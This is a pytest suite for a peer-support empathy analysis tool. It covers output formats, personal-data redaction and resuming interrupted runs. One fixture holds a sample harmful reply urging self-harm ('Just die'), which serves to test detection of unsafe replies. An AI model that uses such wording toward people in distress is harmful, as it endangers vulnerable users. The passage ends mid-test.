"""Result writers: record shape, the three formats, and resuming an interrupted run."""

from __future__ import annotations

import csv
import dataclasses
import json
import re
import sys
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from carelens.analysis.feedback import CRISIS_LINES
from carelens.errors import InputError, MissingExtraError
from carelens.output import (
    PARTIAL_SUFFIX,
    ResultWriter,
    analyze_file,
    flat_columns,
    options_path,
    output_format,
    read_results,
    result_record,
    safe_cell,
    spreadsheet_safe,
    spreadsheet_text,
)
from carelens.readers import RejectLog
from carelens.types import DimensionScore, Exchange, ResponseAnalysis, Span, Turn

DIMS = ("emotional_reaction", "interpretation", "exploration")
FORMATS = ("jsonl", "csv", "parquet")


class FakeAnalyzer:
    """Deterministic levels from the response length; a span on the first word when > 0;
    unsafe words on the first word of responses that say "hurt" (not checked: "tab")."""

    dimensions = DIMS
    model_id = "fake-model"

    def __init__(self) -> None:
        self.seen: list[str] = []

    def predict(self, pairs: Sequence[Exchange]) -> list[ResponseAnalysis]:
        out = []
        for exchange in pairs:
            text = exchange.response.text
            self.seen.append(exchange.response.id)
            dims = {}
            for d, name in enumerate(DIMS):
                level = (len(text) + d) % 3
                probs = [0.1, 0.1, 0.1]
                probs[level] = 0.8
                first = len(text.split(" ")[0])
                spans = (Span(0, first, name, 0.9),) if level else ()
                dims[name] = DimensionScore(level, tuple(probs), spans)
            unsafe: tuple[Span, ...] | None = ()
            if "hurt" in text:
                unsafe = (Span(0, len(text.split(" ")[0]), "urging", 1.0),)
            elif "tab" in text:
                unsafe = None
            out.append(ResponseAnalysis(dimensions=dims, model_id=self.model_id, unsafe=unsafe))
        return out


TEXTS = [
    "That sounds hard. What happened?",
    'She said "no", and then, well — it hurt.',
    "A line\nbreak, a comma, and a tab\there.",
    "Ça va? Ich verstehe. 🌱",
    "I'm here for you.",
]


def write_pairs(path: Path, n: int) -> list[tuple[str, str]]:
    """A generic-layout JSON Lines input of ``n`` pairs; returns their ids in order."""
    ids = []
    with path.open("w", encoding="utf-8") as fh:
        for i in range(n):
            sid, rid = f"s{i // 2}", f"r{i}"
            row = {
                "seeker_id": sid,
                "response_id": rid,
                "seeker": f"Something difficult happened, number {i}.",
                "response": f"{TEXTS[i % len(TEXTS)]} ({i})",
            }
            fh.write(json.dumps(row, ensure_ascii=False) + "\n")
            ids.append((sid, rid))
    return ids


def ids_of(records: list[dict[str, Any]]) -> list[tuple[str, str]]:
    return [(r["seeker_id"], r["response_id"]) for r in records]


def test_result_record_shape() -> None:
    exchange = Exchange(
        seeker=Turn(
            id="s", text="seek", conversation_id="c", speaker="op", meta={"subreddit": "grief"}
        ),
        response=Turn(id="r", text="Oh no. Tell me more.", speaker="h", timestamp="2024"),
    )
    (analysis,) = FakeAnalyzer().predict([exchange])
    record = result_record(exchange, analysis)
    assert list(record) == [
        "seeker_id",
        "response_id",
        "conversation_id",
        "speaker",
        "timestamp",
        "seeker_speaker",
        "community",
        *DIMS,
        "unsafe",
        "seeker_text",
        "response_text",
        "model",
    ]
    assert record["unsafe"] == []
    assert record["conversation_id"] == "c"  # taken from the seeker when the response lacks it
    assert (record["speaker"], record["timestamp"], record["model"]) == ("h", "2024", "fake-model")
    assert (record["seeker_speaker"], record["community"]) == ("op", "grief")
    assert (record["seeker_text"], record["response_text"]) == ("seek", "Oh no. Tell me more.")
    bare = result_record(exchange, analysis, include_text=False)
    assert bare["seeker_text"] is None and bare["response_text"] is None
    for d in DIMS:
        assert set(record[d]) == {"level", "probabilities", "spans"}
        for span in record[d]["spans"]:
            assert span["text"] == exchange.response.text[span["start"] : span["end"]]


def test_redacted_feedback_keeps_the_crisis_lines_carelens_points_to() -> None:
    exchange = Exchange(
        seeker=Turn(id="s", text="I want to end it. Mail me at kim@example.com."),
        response=Turn(id="r", text="Write to me at kim@example.com.", reply_to="s"),
    )
    (analysis,) = FakeAnalyzer().predict([exchange])
    feedback = (
        f'They wrote "end it": share a crisis line ({CRISIS_LINES}).',
        'You wrote "Write to me at kim@example.com": keep contact details out of the thread.',
    )
    analysis = dataclasses.replace(analysis, feedback=feedback)
    record = result_record(exchange, analysis, redact=True)
    assert "findahelpline.com" in record["feedback"][0] and "741741" in record["feedback"][0]
    assert "kim@example.com" not in json.dumps(record)
    assert "[email]" in record["feedback"][1]


def test_unsafe_words_carry_their_text_and_move_with_redaction() -> None:
    exchange = Exchange(
        seeker=Turn(id="s", text="seek"),
        response=Turn(id="r", text="Mail kim@example.com: it hurt. Just die.", reply_to="s"),
    )
    (analysis,) = FakeAnalyzer().predict([exchange])
    text = exchange.response.text
    analysis = dataclasses.replace(
        analysis, unsafe=(Span(text.index("Just"), len(text) - 1, "urging", 1.0),)
    )
    record = result_record(exchange, analysis)
    assert record["unsafe"] == [
        {"start": 31, "end": 39, "label": "urging", "score": 1.0, "text": "Just die"}
    ]
    redacted = result_record(exchange, analysis, redact=True)
    (span,) = redacted["unsafe"]
    assert span["text"] == "Just die"
    assert redacted["response_text"][span["start"] : span["end"]] == "Just die"
    assert "kim@example.com" not in json.dumps(redacted)


@pytest.mark.parametrize(
    ("name", "fmt"),
    [("a.jsonl", "jsonl"), ("a.JSON", "jsonl"), ("a.csv", "csv"), ("a.parquet", "parquet")],
)
def test_output_format_from_extension(name: str, fmt: str) -> None:
    assert output_format(name) == fmt


@pytest.mark.parametrize("name", ["a.txt", "a", "a.tsv"])
def test_unknown_output_extension_is_an_input_error(name: str) -> None:
    with pytest.raises(InputError, match="output format"):
        output_format(name)


@pytest.mark.parametrize("fmt", FORMATS)
def test_formats_round_trip_in_input_order(tmp_path: Path, fmt: str) -> None:
    source = tmp_path / "in.jsonl"
    ids = write_pairs(source, 11)
    out = tmp_path / f"out.{fmt}"
    summary = analyze_file(source, FakeAnalyzer(), out, chunk_size=4)
    assert (summary.analysed, summary.resumed, summary.output) == (11, 0, out)
    records = list(read_results(out))
    assert ids_of(records) == ids
    reference = list(
        analyze_file(source, FakeAnalyzer(), None, preview=100).preview  # no output written
    )
    assert records == [record for _, record in reference]
    if fmt == "csv":
        header = out.read_text(encoding="utf-8").splitlines()[0]
        assert header.split(",") == flat_columns(DIMS)
    if fmt == "parquet":
        assert not (tmp_path / f"out.parquet{PARTIAL_SUFFIX}").exists()


def test_level_counts_cover_every_record(tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    write_pairs(source, 9)
    summary = analyze_file(source, FakeAnalyzer(), tmp_path / "o.jsonl")
    assert all(sum(c) == 9 for c in summary.level_counts.values())


class Interrupt(Exception):
    """Stands in for Ctrl-C in the writer tests (KeyboardInterrupt would stop pytest)."""


def interrupted_run(source: Path, out: Path, after_chunks: int) -> None:
    calls = []

    def progress(n: int) -> None:
        calls.append(n)
        if len(calls) == after_chunks:
            raise Interrupt

    with pytest.raises(Interrupt):
        analyze_file(source, FakeAnalyzer(), out, chunk_size=5, progress=progress)


def chop(path: Path, n_bytes: int) -> None:
    data = path.read_bytes()
    path.write_bytes(data[:-n_bytes])


@pytest.mark.parametrize("fmt", FORMATS)
def test_resume_after_interruption_mid_line(tmp_path: Path, fmt: str) -> None:
    source = tmp_path / "in.jsonl"
    ids = write_pairs(source, 23)
    out = tmp_path / f"out.{fmt}"
    interrupted_run(source, out, after_chunks=3)  # 15 records flushed
    store = out if fmt != "parquet" else tmp_path / f"out.parquet{PARTIAL_SUFFIX}"
    assert store.exists() and (fmt != "parquet" or not out.exists())
    chop(store, 7)  # the interruption also cut the last record mid-line
    analyzer = FakeAnalyzer()
    summary = analyze_file(source, analyzer, out, chunk_size=5)
    assert summary.resumed == 14
    assert summary.analysed == 23 - 14
    assert analyzer.seen == [rid for _, rid in ids[14:]]  # nothing analysed twice
    assert ids_of(list(read_results(out))) == ids  # no pair missing or duplicated
    assert all(sum(c) == 23 for c in summary.level_counts.values())
    if fmt == "parquet":
        assert not store.exists()


def test_resume_when_a_csv_record_was_cut_inside_a_quoted_newline(tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    ids = write_pairs(source, 5)
    text = source.read_text(encoding="utf-8").replace('"s1"', '"two\\nlines"')
    source.write_text(text, encoding="utf-8")
    ids = [("two\nlines" if s == "s1" else s, r) for s, r in ids]
    out = tmp_path / "out.csv"
    analyze_file(source, FakeAnalyzer(), out)
    data = out.read_bytes()
    cut = data.index(b'"two\n') + len(b'"two\n')  # the third record spans two lines
    out.write_bytes(data[:cut])
    summary = analyze_file(source, FakeAnalyzer(), out)
    assert summary.resumed == 2
    assert ids_of(list(read_results(out))) == ids


def test_rerun_of_a_finished_output_adds_nothing(tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    ids = write_pairs(source, 6)
    out = tmp_path / "out.jsonl"
    analyze_file(source, FakeAnalyzer(), out)
    summary = analyze_file(source, FakeAnalyzer(), out)
    assert (summary.resumed, summary.analysed) == (6, 0)
    assert ids_of(list(read_results(out))) == ids


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_resume_refuses_an_output_of_another_input(tmp_path: Path, fmt: str) -> None:
    first, second = tmp_path / "a.jsonl", tmp_path / "b.jsonl"
    write_pairs(first, 6)
    second.write_text(first.read_text(encoding="utf-8").replace('"r2"', '"other"'), "utf-8")
    out = tmp_path / f"out.{fmt}"
    analyze_file(first, FakeAnalyzer(), out)
    with pytest.raises(InputError, match="--overwrite"):
        analyze_file(second, FakeAnalyzer(), out)
    summary = analyze_file(second, FakeAnalyzer(), out, overwrite=True)
    assert (summary.resumed, summary.analysed) == (0, 6)
    assert ("s1", "other") in ids_of(list(read_results(out)))


def test_resume_refuses_an_output_longer_than_the_input(tmp_path: Path) -> None:
    long, short = tmp_path / "long.jsonl", tmp_path / "short.jsonl"
    write_pairs(long, 6)
    write_pairs(short, 3)
    out = tmp_path / "out.jsonl"
    analyze_file(long, FakeAnalyzer(), out)
    with pytest.raises(InputError, match="does not match the input"):
        analyze_file(short, FakeAnalyzer(), out)


def test_damaged_line_inside_the_output_is_refused(tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    write_pairs(source, 4)
    out = tmp_path / "out.jsonl"
    lines = ["not json\n"]
    analyze_file(source, FakeAnalyzer(), out)
    lines += out.read_text(encoding="utf-8").splitlines(keepends=True)
    out.write_text("".join(lines), encoding="utf-8")
    with pytest.raises(InputError, match="line 1"):
        analyze_file(source, FakeAnalyzer(), out)


def test_csv_with_other_columns_is_refused(tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    write_pairs(source, 2)
    out = tmp_path / "out.csv"
    out.write_text("a,b,c\n1,2,3\n", encoding="utf-8")
    with pytest.raises(InputError, match="header"):
        analyze_file(source, FakeAnalyzer(), out)


def test_cut_csv_header_starts_over(tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    ids = write_pairs(source, 3)
    out = tmp_path / "out.csv"
    out.write_text("seeker_id,respon", encoding="utf-8")
    assert analyze_file(source, FakeAnalyzer(), out).analysed == 3
    assert ids_of(list(read_results(out))) == ids


def test_rerun_of_a_finished_parquet_resumes_it(tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    ids = write_pairs(source, 3)
    out = tmp_path / "out.parquet"
    analyze_file(source, FakeAnalyzer(), out)
    before = list(read_results(out))
    again = analyze_file(source, FakeAnalyzer(), out)
    assert (again.analysed, again.resumed) == (0, 3)
    assert list(read_results(out)) == before
    assert not (tmp_path / f"out.parquet{PARTIAL_SUFFIX}").exists()
    # The input grew: the new pairs are appended and the file written again.
    more = write_pairs(source, 5)
    grown = analyze_file(source, FakeAnalyzer(), out)
    assert (grown.analysed, grown.resumed) == (2, 3)
    assert ids_of(list(read_results(out))) == more and more[:3] == ids
    assert analyze_file(source, FakeAnalyzer(), out, overwrite=True).analysed == 5


def test_finished_parquet_of_another_input_is_left_as_it_was(tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    write_pairs(source, 3)
    out = tmp_path / "out.parquet"
    analyze_file(source, FakeAnalyzer(), out)
    before = out.read_bytes()
    other = tmp_path / "other.jsonl"
    other.write_text(source.read_text(encoding="utf-8").replace('"r0"', '"x0"'), encoding="utf-8")
    with pytest.raises(InputError, match="does not match the input") as caught:
        analyze_file(other, FakeAnalyzer(), out)
    assert str(out) in str(caught.value)
    assert out.read_bytes() == before
    assert not (tmp_path / f"out.parquet{PARTIAL_SUFFIX}").exists()


@pytest.mark.parametrize("content", [b"not parquet at all", None])
def test_finished_parquet_of_another_kind_is_refused(tmp_path: Path, content: bytes | None) -> None:
    source = tmp_path / "in.jsonl"
    write_pairs(source, 2)
    out = tmp_path / "out.parquet"
    if content is None:  # a Parquet file with other columns
        import pyarrow as pa
        import pyarrow.parquet as pq

        pq.write_table(pa.table({"a": [1, 2]}), out)
    else:
        out.write_bytes(content)
    before = out.read_bytes()
    with pytest.raises(InputError, match="--overwrite"):
        analyze_file(source, FakeAnalyzer(), out)
    assert out.read_bytes() == before


def test_parquet_without_pyarrow_names_the_extra(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = tmp_path / "in.jsonl"
    write_pairs(source, 2)
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    monkeypatch.setitem(sys.modules, "pyarrow.parquet", None)
    with pytest.raises(MissingExtraError, match=r"carelens\[parquet\]"):
        analyze_file(source, FakeAnalyzer(), tmp_path / "out.parquet")
    assert not (tmp_path / f"out.parquet{PARTIAL_SUFFIX}").exists()


def test_rejects_are_counted_and_good_rows_written(tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    write_pairs(source, 3)
    with source.open("a", encoding="utf-8") as fh:
        fh.write('{"seeker_id": "x", "response_id": "y", "seeker": "hi", "response": ""}\n')
        fh.write("{broken\n")
    with RejectLog(tmp_path / "rejects.jsonl") as log:
        summary = analyze_file(source, FakeAnalyzer(), tmp_path / "out.jsonl", rejects=log)
    assert summary.analysed == 3
    assert sum(summary.rejected.values()) == 2
    assert summary.rejects_path == tmp_path / "rejects.jsonl"
    assert len((tmp_path / "rejects.jsonl").read_text(encoding="utf-8").splitlines()) == 2


def test_writer_requires_open(tmp_path: Path) -> None:
    writer = ResultWriter(tmp_path / "o.jsonl", DIMS)
    with pytest.raises(RuntimeError):
        writer.write([], [])


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("out.json", b'{"settings": {"keep": true}}\n'),  # one complete line of another file
        ("out.jsonl", b'{"settings": {"keep": true}}'),  # one unterminated line of another file
        ("out.csv", b"keep,this"),  # an unterminated one-line CSV that is not our header
    ],
)
def test_a_one_line_file_of_another_kind_is_refused_not_truncated(
    tmp_path: Path, name: str, content: bytes
) -> None:
    source = tmp_path / "in.jsonl"
    write_pairs(source, 2)
    out = tmp_path / name
    out.write_bytes(content)
    with pytest.raises(InputError, match="--overwrite"):
        analyze_file(source, FakeAnalyzer(), out)
    assert out.read_bytes() == content


def test_a_complete_record_of_another_model_is_refused_not_truncated(tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    write_pairs(source, 2)
    out = tmp_path / "out.jsonl"
    line = json.dumps({"seeker_id": "s0", "response_id": "r0", "other_dim": {"level": 1}}) + "\n"
    out.write_text(line, encoding="utf-8")
    with pytest.raises(InputError, match="line 1"):
        analyze_file(source, FakeAnalyzer(), out)
    assert out.read_text(encoding="utf-8") == line


def test_a_record_cut_at_its_start_is_resumed(tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    ids = write_pairs(source, 3)
    out = tmp_path / "out.jsonl"
    out.write_bytes(b'{"seeker')
    assert analyze_file(source, FakeAnalyzer(), out).analysed == 3
    assert ids_of(list(read_results(out))) == ids


@pytest.mark.parametrize("first_line", [b"{broken\n", b"[1, 2]\n", b"\xff\xfe\n"])
def test_read_results_of_a_damaged_file_is_an_input_error(
    tmp_path: Path, first_line: bytes
) -> None:
    path = tmp_path / "results.jsonl"
    path.write_bytes(first_line)
    with pytest.raises(InputError, match="line 1"):
        list(read_results(path))


def write_texts(path: Path, responses: Sequence[str]) -> None:
    with path.open("w", encoding="utf-8") as fh:
        for i, response in enumerate(responses):
            row = {
                "seeker_id": "s",
                "response_id": f"r{i}",
                "seeker": "It is hard.",
                "response": response,
            }
            fh.write(json.dumps(row) + "\n")


CARRIAGE_RETURNS = ["One line.\rAnother.", "Windows\r\nends.", "End\r", "a\r\rb", "plain"]


def test_csv_with_a_bare_carriage_return_reads_back_and_resumes(tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    write_texts(source, CARRIAGE_RETURNS)
    out = tmp_path / "out.csv"
    analyze_file(source, FakeAnalyzer(), out)
    records = list(read_results(out))
    assert [r["response_text"] for r in records] == CARRIAGE_RETURNS
    assert b'"One line.\rAnother."' in out.read_bytes()  # quoted: any CSV reader takes it
    with out.open(encoding="utf-8", newline="") as fh:
        assert [row[-2] for row in csv.reader(fh)][1:] == CARRIAGE_RETURNS
    again = analyze_file(source, FakeAnalyzer(), out)  # a re-run resumes: nothing to add
    assert (again.analysed, again.resumed) == (0, len(CARRIAGE_RETURNS))


def test_csv_written_with_an_unquoted_carriage_return_is_still_read(tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    write_texts(source, CARRIAGE_RETURNS)
    out = tmp_path / "out.csv"
    analyze_file(source, FakeAnalyzer(), out)
    expected = list(read_results(out))
    # How earlier versions wrote it: rows ending in \n, a lone \r left outside quotes.

    with out.open(encoding="utf-8", newline="") as fh:
        header, *rows = csv.reader(fh)
    with out.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh, lineterminator="\n")
        writer.writerows([header, *rows])
    assert b"It is hard.,One line.\rAnother.,fake-model\n" in out.read_bytes()  # unquoted
    assert list(read_results(out)) == expected
    assert analyze_file(source, FakeAnalyzer(), out).resumed == len(CARRIAGE_RETURNS)


def test_read_results_takes_an_older_csv_layout_by_its_own_header(tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    ids = write_pairs(source, 5)
    out = tmp_path / "out.csv"
    analyze_file(source, FakeAnalyzer(), out)

    with out.open(encoding="utf-8", newline="") as fh:
        header, *rows = csv.reader(fh)
    dropped = {"unsafe_reply", "unsafe_spans", "seeker_speaker", "community"}
    keep = [i for i, name in enumerate(header) if name not in dropped]
    old = tmp_path / "old.csv"
    with old.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, lineterminator="\n").writerows(
            [[r[i] for i in keep] for r in [header, *rows]]
        )
    records = list(read_results(old))
    assert ids_of(records) == ids
    assert all("unsafe" not in r for r in records)  # not checked, not "none found"
    current = list(read_results(out))
    assert [r["emotional_reaction"] for r in records] == [r["emotional_reaction"] for r in current]
    # Resuming still insists on this model's layout, and says so, naming the columns.
    with pytest.raises(
        InputError, match=r"other columns .*missing seeker_speaker, community, unsafe_reply"
    ):
        analyze_file(source, FakeAnalyzer(), old)


def test_read_results_of_another_csv_names_a_result_file(tmp_path: Path) -> None:
    path = tmp_path / "table.csv"
    path.write_text("a,b,c\n1,2,3\n", encoding="utf-8")
    with pytest.raises(InputError, match="not a carelens result file") as caught:
        list(read_results(path))
    assert "--overwrite" not in str(caught.value)


def test_read_results_accepts_records_without_some_dimensions(tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    write_pairs(source, 3)
    out = tmp_path / "out.jsonl"
    analyze_file(source, FakeAnalyzer(), out)
    lines = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    del lines[1]["exploration"]
    out.write_text("".join(json.dumps(r) + "\n" for r in lines), encoding="utf-8")
    records = list(read_results(out))
    assert len(records) == 3 and "exploration" not in records[1]
    lines[2]["interpretation"]["level"] = 7  # a level outside 0-2 is still refused
    out.write_text("".join(json.dumps(r) + "\n" for r in lines), encoding="utf-8")
    with pytest.raises(InputError, match="line 3"):
        list(read_results(out))
    # Resuming needs every dimension of the model.
    lines[2]["interpretation"]["level"] = 1
    out.write_text("".join(json.dumps(r) + "\n" for r in lines), encoding="utf-8")
    with pytest.raises(InputError, match="line 2"):
        analyze_file(source, FakeAnalyzer(), out)


# --- a resume must write its records as the output was begun --------------------------


def write_personal_pairs(path: Path, n: int, every: int = 3) -> list[tuple[str, str]]:
    """Like :func:`write_pairs`, with a web address in every ``every``-th response."""
    ids = write_pairs(path, n)
    rows = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    for i, row in enumerate(rows):
        if i % every == 0:
            row["response"] += f" See https://example.org/help{i} for more."
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return ids


TEXT_OPTIONS: dict[str, dict[str, bool]] = {
    "--redact": {"redact": True},
    "--no-text": {"include_text": False},
}


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("option", sorted(TEXT_OPTIONS))
@pytest.mark.parametrize("first_with", [False, True])
def test_resume_with_other_text_options_is_refused(
    tmp_path: Path, fmt: str, option: str, first_with: bool
) -> None:
    source = tmp_path / "in.jsonl"
    ids = write_personal_pairs(source, 12)
    out = tmp_path / f"out.{fmt}"
    kwargs = TEXT_OPTIONS[option]
    begun: dict[str, bool] = kwargs if first_with else {}
    other: dict[str, bool] = {} if first_with else kwargs
    store = out if fmt != "parquet" else tmp_path / f"out.parquet{PARTIAL_SUFFIX}"
    calls: list[int] = []

    def stop_after_two(n: int) -> None:
        calls.append(n)
        if len(calls) == 2:
            raise Interrupt

    with pytest.raises(Interrupt):
        analyze_file(source, FakeAnalyzer(), out, chunk_size=5, progress=stop_after_two, **begun)
    kept = store.read_bytes()
    said = "with" if first_with else "without"
    with pytest.raises(InputError, match=f"written {said} {option}") as caught:
        analyze_file(source, FakeAnalyzer(), out, chunk_size=5, **other)
    if option == "--redact" and not first_with:
        # Resuming without --redact would write the rest unredacted: never advised.
        assert "to resume it" not in str(caught.value)
        assert "cannot be resumed with --redact" in str(caught.value)
    else:
        assert f"run again {said} {option} to resume it" in str(caught.value)
    assert "remove or rename the output" in str(caught.value)
    assert store.read_bytes() == kept  # nothing appended, nothing cut
    summary = analyze_file(source, FakeAnalyzer(), out, chunk_size=5, **begun)
    assert (summary.resumed, summary.analysed) == (10, 2)
    records = list(read_results(out))
    assert ids_of(records) == ids
    if option == "--no-text":
        assert {r["response_text"] is None for r in records} == {first_with}
    else:
        written = json.dumps(records)
        assert ("example.org" in written) != first_with
    # A finished output is refused the same way (a finished Parquet file stays as it was).
    finished = out.read_bytes()
    with pytest.raises(InputError, match=f"written {said} {option}"):
        analyze_file(source, FakeAnalyzer(), out, **other)
    assert out.read_bytes() == finished
    assert fmt != "parquet" or not store.exists()
    assert analyze_file(source, FakeAnalyzer(), out, overwrite=True, **other).analysed == 12


def test_the_options_are_kept_beside_the_output(tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    write_pairs(source, 3)
    out = tmp_path / "out.parquet"
    analyze_file(source, FakeAnalyzer(), out, redact=True, include_text=False)
    kept = json.loads(options_path(out).read_text(encoding="utf-8"))
    assert options_path(out).name == "out.parquet.options.json"
    assert {k: kept[k] for k in ("no_text", "redact", "model")} == {
        "no_text": True,
        "redact": True,
        "model": "fake-model",
    }
    analyze_file(source, FakeAnalyzer(), out, overwrite=True)
    kept = json.loads(options_path(out).read_text(encoding="utf-8"))
    assert (kept["no_text"], kept["redact"]) == (False, False)


def test_resume_with_another_model_is_refused(tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    write_pairs(source, 6)
    out = tmp_path / "out.jsonl"
    analyze_file(source, FakeAnalyzer(), out)
    chop(out, 7)
    other = FakeAnalyzer()
    other.model_id = "fake-model-2"
    with pytest.raises(InputError, match="written by the model 'fake-model'"):
        analyze_file(source, other, out)


def older_output(source: Path, out: Path, n: int, **kwargs: bool) -> None:
    """An output begun by a carelens that kept no options: ``n`` records, the last cut."""
    analyze_file(source, FakeAnalyzer(), out, **kwargs)
    options_path(out).unlink()
    lines = out.read_text(encoding="utf-8").splitlines(keepends=True)
    out.write_text("".join(lines[:n]) + lines[n][:30], encoding="utf-8")


@pytest.mark.parametrize("begun_redacted", [False, True])
def test_an_older_output_with_texts_shows_whether_it_was_redacted(
    tmp_path: Path, begun_redacted: bool
) -> None:
    source = tmp_path / "in.jsonl"
    write_personal_pairs(source, 9)
    out = tmp_path / "out.jsonl"
    older_output(source, out, 5, redact=begun_redacted)
    said = "with" if begun_redacted else "without"
    with pytest.raises(InputError, match=f"written {said} --redact"):
        analyze_file(source, FakeAnalyzer(), out, redact=not begun_redacted)
    summary = analyze_file(source, FakeAnalyzer(), out, redact=begun_redacted)
    assert (summary.resumed, summary.analysed) == (5, 4)
    assert json.loads(options_path(out).read_text(encoding="utf-8"))["redact"] == begun_redacted


def test_an_older_output_without_personal_data_resumes_either_way(tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    write_pairs(source, 6)  # nothing to redact: the records are the same either way
    for redact in (False, True):
        out = tmp_path / f"out-{redact}.jsonl"
        older_output(source, out, 3, include_text=False)
        summary = analyze_file(source, FakeAnalyzer(), out, include_text=False, redact=redact)
        assert (summary.resumed, summary.analysed) == (3, 3)


def test_an_older_output_that_cannot_show_redaction_is_refused(tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    write_personal_pairs(source, 6)
    out = tmp_path / "out.jsonl"
    older_output(source, out, 3, include_text=False)  # texts left out: redaction unknown
    kept = out.read_bytes()
    for redact in (False, True):
        with pytest.raises(InputError, match="does not say whether it was written with --redact"):
            analyze_file(source, FakeAnalyzer(), out, include_text=False, redact=redact)
    assert out.read_bytes() == kept
    with pytest.raises(InputError, match="written with --no-text"):  # texts show it exactly
        analyze_file(source, FakeAnalyzer(), out)


def test_an_output_mixed_by_an_older_carelens_is_refused(tmp_path: Path) -> None:
    # What an older carelens made of a resume with --redact: unredacted, then redacted.
    source = tmp_path / "in.jsonl"
    write_personal_pairs(source, 6, every=1)
    out = tmp_path / "out.jsonl"
    older_output(source, out, 5)
    plain = out.read_text(encoding="utf-8").splitlines(keepends=True)[:3]
    analyze_file(source, FakeAnalyzer(), out, redact=True, overwrite=True)
    options_path(out).unlink()
    redacted = out.read_text(encoding="utf-8").splitlines(keepends=True)[3:]
    out.write_text("".join(plain + redacted), encoding="utf-8")
    for redact in (False, True):
        with pytest.raises(InputError, match="some records of the existing output are redacted"):
            analyze_file(source, FakeAnalyzer(), out, redact=redact)


#: Replies whose phone number an older carelens's --redact left in place (before redaction
#: found numbers next to punctuation) and whose e-mail address it redacted.
PHONE_ONLY = "Call me on tel.555-123-{i:04d} any time."
PHONE_AND_EMAIL = "Write to kim{i}@example.org or tel.555-123-{i:04d}."


def older_rules_output(tmp_path: Path, replies: Sequence[str], kept: int) -> tuple[Path, Path]:
    """An input of ``replies`` and an output begun with --redact by an older carelens (no
    options file) whose redaction found the e-mail addresses and not the phone numbers:
    ``kept`` records, then one cut short."""
    source = tmp_path / "in.jsonl"
    rows = [
        {
            "seeker_id": f"s{i}",
            "response_id": f"r{i}",
            "seeker": f"I feel low ({i}).",
            "response": r,
        }
        for i, r in enumerate(reply.format(i=i) for i, reply in enumerate(replies))
    ]
    source.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    out = tmp_path / "out.jsonl"
    analyze_file(source, FakeAnalyzer(), out, redact=True)
    options_path(out).unlink()
    lines = []
    for row, line in zip(rows, out.read_text(encoding="utf-8").splitlines(), strict=True):
        record = json.loads(line)
        assert record["response_text"] != row["response"]  # this carelens finds the number
        record["response_text"] = re.sub(r"\S+@example\.org", "[email]", row["response"])
        lines.append(json.dumps(record, ensure_ascii=False) + "\n")
    out.write_text("".join(lines[:kept]) + lines[kept][:30], encoding="utf-8")
    return source, out


def test_an_older_output_redacted_by_older_rules_resumes_with_redact(tmp_path: Path) -> None:
    # Its records match neither the input nor this carelens's redaction, and hold [email].
    source, out = older_rules_output(tmp_path, [PHONE_AND_EMAIL] * 6, 3)
    kept = out.read_bytes()
    with pytest.raises(InputError, match="written with --redact") as caught:
        analyze_file(source, FakeAnalyzer(), out)
    assert "run again with --redact to resume it" in str(caught.value)
    assert out.read_bytes() == kept
    summary = analyze_file(source, FakeAnalyzer(), out, redact=True)
    assert (summary.resumed, summary.analysed) == (3, 3)
    written = out.read_text(encoding="utf-8")
    assert "@example.org" not in written
    assert "555-123-0005" not in written  # the new records: this carelens's redaction
    assert json.loads(options_path(out).read_text(encoding="utf-8"))["redact"] is True


@pytest.mark.parametrize(
    ("replies", "record"),
    [
        ([PHONE_ONLY] * 6, 1),  # every resumed record holds the number as read
        ([PHONE_ONLY, PHONE_AND_EMAIL] * 3, 1),  # and others hold [email]
        ([PHONE_AND_EMAIL, PHONE_ONLY] * 3, 2),
    ],
)
def test_an_older_output_with_personal_data_as_read_never_advises_dropping_redact(
    tmp_path: Path, replies: list[str], record: int
) -> None:
    # With --redact by an older carelens or without it, the records cannot tell: resuming
    # with --redact is refused, and the advice is to start over, never to drop --redact
    # (which would write the rest unredacted).
    source, out = older_rules_output(tmp_path, replies, 4)
    kept = out.read_bytes()
    with pytest.raises(InputError) as caught:
        analyze_file(source, FakeAnalyzer(), out, redact=True)
    said = str(caught.value)
    assert "without --redact to resume" not in said and "no texts" not in said
    assert f"record {record} holds personal data as read" in said
    assert "remove or rename the output (or pass --overwrite) to start over" in said
    assert out.read_bytes() == kept
    assert analyze_file(source, FakeAnalyzer(), out, redact=True, overwrite=True).analysed == 6


def test_an_older_output_of_another_input_text_is_not_said_to_have_no_texts(
    tmp_path: Path,
) -> None:
    # Same ids, other texts (neither the input's nor a redaction of it): redaction unknown.
    source, out = older_rules_output(tmp_path, [PHONE_ONLY] * 6, 3)
    out.write_text(
        out.read_text(encoding="utf-8").replace("Call me on", "Ring me on"), encoding="utf-8"
    )
    for redact in (False, True):
        with pytest.raises(InputError, match="cannot show it") as caught:
